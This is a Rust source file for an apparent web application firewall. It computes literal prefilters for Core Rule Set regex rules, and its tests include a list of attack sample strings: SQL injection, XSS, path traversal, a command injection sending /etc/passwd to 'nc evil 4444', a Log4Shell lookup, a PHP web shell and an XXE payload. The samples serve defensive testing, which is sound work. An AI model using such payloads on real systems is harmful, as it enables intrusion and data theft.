//! Literal prefilters for `@rx` rules, so that a clean request does not run every
//! pattern. For each pattern we derive a set of literals such that any match contains
//! one of them (ignoring ASCII case); rules whose values get the same transformations
//! share one Aho-Corasick automaton of all their literals. A transformed value is then
//! scanned once for all those rules, and a rule whose literals are absent is known not
//! to match without running its regex.

use crate::pattern::braced_hex_to_plain;
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex_syntax::hir::{Class, Hir, HirKind};

/// Literals shorter than this say too little to be worth a scan.
const MIN_LEN: usize = 2;
/// Most strings a cross product of exact parts may give (they grow fast).
const MAX_SET: usize = 64;
/// Most literals an alternation may give (CRS's word lists run to hundreds).
const MAX_ALTERNATIVES: usize = 4096;
/// Most rules one automaton serves (its candidates fit in a fixed bit set).
pub const MAX_SLOTS: usize = 256;

/// Which rules of a group may match a value.
pub type Candidates = [u64; MAX_SLOTS / 64];

/// What a sub-pattern's matches are known to contain.
#[derive(Debug, Clone)]
enum Facts {
    /// Every match is exactly one of these strings (lower case).
    Exact(Vec<Vec<u8>>),
    /// Every match contains one of these strings.
    Contains(Vec<Vec<u8>>),
    /// Nothing useful is known.
    Unknown,
}

/// The literals that every match of `pattern` contains (lower case), if there is such a
/// set worth using.
pub fn required_literals(pattern: &str) -> Option<Vec<Vec<u8>>> {
    let hir = regex_syntax::ParserBuilder::new()
        .unicode(false)
        .utf8(false)
        .dot_matches_new_line(true)
        .multi_line(true)
        .build()
        .parse(&braced_hex_to_plain(pattern))
        .ok()?;
    let set = match facts(&hir) {
        Facts::Exact(s) | Facts::Contains(s) => s,
        Facts::Unknown => return None,
    };
    (!set.is_empty() && set.iter().all(|l| l.len() >= MIN_LEN)).then_some(set)
}

/// The bytes a class matches, lower-cased, if they are few.
fn class_bytes(c: &Class) -> Option<Vec<u8>> {
    let mut out: Vec<u8> = Vec::new();
    let mut add = |lo: u32, hi: u32| -> bool {
        if hi - lo > 8 {
            return false;
        }
        for b in lo..=hi {
            let Ok(b) = u8::try_from(b) else { return false };
            let b = b.to_ascii_lowercase();
            if !out.contains(&b) {
                out.push(b);
            }
        }
        true
    };
    let ok = match c {
        Class::Bytes(b) => b
            .ranges()
            .iter()
            .all(|r| add(r.start() as u32, r.end() as u32)),
        Class::Unicode(u) => u
            .ranges()
            .iter()
            .all(|r| add(r.start() as u32, r.end() as u32)),
    };
    (ok && !out.is_empty() && out.len() <= 4).then_some(out)
}

fn lower(b: &[u8]) -> Vec<u8> {
    b.to_ascii_lowercase()
}

/// Every concatenation of one string from `a` and one from `b`, if not too many.
fn product(a: &[Vec<u8>], b: &[Vec<u8>]) -> Option<Vec<Vec<u8>>> {
    if a.len() * b.len() > MAX_SET {
        return None;
    }
    let mut out = Vec::with_capacity(a.len() * b.len());
    for x in a {
        for y in b {
            let mut s = x.clone();
            s.extend_from_slice(y);
            if !out.contains(&s) {
                out.push(s);
            }
        }
    }
    Some(out)
}

/// How good a set is as a prefilter: longer shortest literal first, then fewer.
fn score(s: &[Vec<u8>]) -> (usize, usize) {
    let shortest = s.iter().map(Vec::len).min().unwrap_or(0);
    (shortest, usize::MAX - s.len())
}

fn facts(h: &Hir) -> Facts {
    match h.kind() {
        HirKind::Empty | HirKind::Look(_) => Facts::Exact(vec![Vec::new()]),
        HirKind::Literal(l) => Facts::Exact(vec![lower(&l.0)]),
        HirKind::Class(c) => match class_bytes(c) {
            Some(bytes) => Facts::Exact(bytes.into_iter().map(|b| vec![b]).collect()),
            None => Facts::Unknown,
        },
        HirKind::Capture(c) => facts(&c.sub),
        HirKind::Repetition(r) => match (r.min, r.max) {
            (0, _) => Facts::Unknown,
            (1, Some(1)) => facts(&r.sub),
            _ => match facts(&r.sub) {
                Facts::Exact(s) | Facts::Contains(s) => Facts::Contains(s),
                Facts::Unknown => Facts::Unknown,
            },
        },
        HirKind::Alternation(alts) => {
            let mut all = Vec::new();
            let mut exact = true;
            for a in alts {
                match facts(a) {
                    Facts::Exact(s) => all.extend(s),
                    Facts::Contains(s) => {
                        exact = false;
                        all.extend(s)
                    }
                    Facts::Unknown => return Facts::Unknown,
                }
                if all.len() > MAX_ALTERNATIVES {
                    return Facts::Unknown;
                }
            }
            all.sort();
            all.dedup();
            // A shorter literal that another contains says all: keep the shorter.
            match exact {
                true => Facts::Exact(all),
                false => Facts::Contains(all),
            }
        }
        HirKind::Concat(parts) => {
            // Runs of exact parts join into longer exact strings; the best run or part
            // is what the whole must contain.
            let mut best: Option<Vec<Vec<u8>>> = None;
            let mut run: Option<Vec<Vec<u8>>> = Some(vec![Vec::new()]);
            let mut all_exact = true;
            let consider = |s: &Vec<Vec<u8>>, best: &mut Option<Vec<Vec<u8>>>| {
                if best.as_ref().is_none_or(|b| score(s) > score(b)) {
                    *best = Some(s.clone());
                }
            };
            for p in parts {
                match facts(p) {
                    Facts::Exact(s) => {
                        run = run.and_then(|r| product(&r, &s));
                        match &run {
                            Some(r) => consider(r, &mut best),
                            None => {
                                // Too many: start a new run from this part.
                                all_exact = false;
                                consider(&s, &mut best);
                                run = Some(s);
                            }
                        }
                    }
                    Facts::Contains(s) => {
                        all_exact = false;
                        consider(&s, &mut best);
                        run = Some(vec![Vec::new()]);
                    }
                    Facts::Unknown => {
                        all_exact = false;
                        run = Some(vec![Vec::new()]);
                    }
                }
            }
            match (all_exact, run, best) {
                (true, Some(r), _) => Facts::Exact(r),
                (_, _, Some(b)) => Facts::Contains(b),
                _ => Facts::Unknown,
            }
        }
    }
}

/// One automaton over the literals of every rule that shares a transformation chain.
#[derive(Debug)]
pub struct Group {
    ac: AhoCorasick,
    /// For each literal, the slots (rules of the group) it stands for.
    owners: Vec<Vec<u32>>,
    pub slots: u32,
}

impl Group {
    /// Builds a group from each rule's literal set (slot = index in `sets`).
    pub fn build(sets: &[Vec<Vec<u8>>]) -> Option<Group> {
        let mut literals: Vec<Vec<u8>> = Vec::new();
        let mut owners: Vec<Vec<u32>> = Vec::new();
        for (slot, set) in sets.iter().enumerate() {
            for l in set {
                match literals.iter().position(|x| x == l) {
                    Some(i) => owners[i].push(slot as u32),
                    None => {
                        literals.push(l.clone());
                        owners.push(vec![slot as u32]);
                    }
                }
            }
        }
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(&literals)
            .ok()?;
        Some(Group {
            ac,
            owners,
            slots: sets.len() as u32,
        })
    }

    /// The slots whose literals occur in `value`, as a bit set.
    pub fn candidates(&self, value: &[u8]) -> Candidates {
        let mut bits = [0u64; MAX_SLOTS / 64];
        for m in self.ac.find_overlapping_iter(value) {
            for &slot in &self.owners[m.pattern().as_usize()] {
                bits[slot as usize / 64] |= 1 << (slot % 64);
            }
        }
        bits
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every `@rx` pattern of the Core Rule Set, as written.
    pub(super) fn crs_patterns() -> Vec<String> {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../waf/crs/rules");
        let mut out = Vec::new();
        for e in std::fs::read_dir(dir).expect("rules") {
            let text = std::fs::read_to_string(e.expect("entry").path()).unwrap_or_default();
            for line in text.lines() {
                let Some(start) = line.find("\"@rx ") else {
                    continue;
                };
                let rest = &line[start + 5..];
                if let Some(end) = rest.rfind('"') {
                    out.push(rest[..end].replace("\\\"", "\""));
                }
            }
        }
        out
    }

    fn lits(p: &str) -> Option<Vec<String>> {
        required_literals(p).map(|s| {
            s.into_iter()
                .map(|l| String::from_utf8_lossy(&l).into())
                .collect()
        })
    }

    #[test]
    fn literals_every_match_contains() {
        assert_eq!(
            lits("(?i)union\\s+select"),
            Some(vec!["select".to_string()]),
            "the longer word"
        );
        let mut alt = lits("(?i)(?:onload|onerror)\\s*=").expect("some");
        alt.sort();
        assert_eq!(alt, ["onerror", "onload"]);
        assert_eq!(lits("a*b"), None, "a literal of one byte is too short");
        assert_eq!(lits("(?:abc|.+)"), None, "one branch says nothing");
        assert_eq!(lits("x?abcd"), Some(vec!["abcd".to_string()]));
        assert_eq!(
            lits("[Jj]ava[Ss]cript:"),
            Some(vec!["javascript:".to_string()])
        );
    }

    #[test]
    fn the_prefilter_never_rejects_a_match() {
        // Every CRS pattern: whenever the regex matches a sample, a literal is present.
        let samples: &[&[u8]] = &[
            b"1' UNION SELECT password FROM users--",
            b"<script>alert(document.cookie)</script>",
            b"../../etc/passwd",
            b"; cat /etc/passwd | nc evil 4444",
            b"${jndi:ldap://x/a}",
            b"<?php system($_GET['c']); ?>",
            b"javascript:alert(1)",
            b"java.lang.Runtime.getRuntime().exec('id')",
            b"<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
            b"onerror=alert(1)",
            b"sleep(5) and benchmark(1000000,md5(1))",
            b"normal text with nothing",
        ];
        let mut checked = 0;
        for pattern in crs_patterns() {
            let (Ok(re), Some(set)) = (
                crate::pattern::compile(&pattern),
                required_literals(&pattern),
            ) else {
                continue;
            };
            let group = Group::build(&[set]).expect("group");
            for s in samples {
                let lower = s.to_ascii_lowercase();
                for v in [&s[..], &lower[..]] {
                    if re.is_match(v) {
                        assert!(
                            group.candidates(v)[0] & 1 == 1,
                            "{pattern} matches {v:?} without its literals"
                        );
                        checked += 1;
                    }
                }
            }
        }
        assert!(checked > 10, "only {checked} matches checked");
    }
}

#[cfg(test)]
mod coverage {
    /// `cargo test -p gatehouse-security --lib coverage -- --ignored --nocapture`
    #[test]
    #[ignore]
    fn print_patterns_without_literals() {
        let (mut yes, mut no) = (0, 0);
        for p in super::tests::crs_patterns() {
            match super::required_literals(&p) {
                Some(_) => yes += 1,
                None => {
                    no += 1;
                    println!("NONE {}", &p[..p.len().min(150)]);
                }
            }
        }
        println!("{yes} with, {no} without");
    }
}
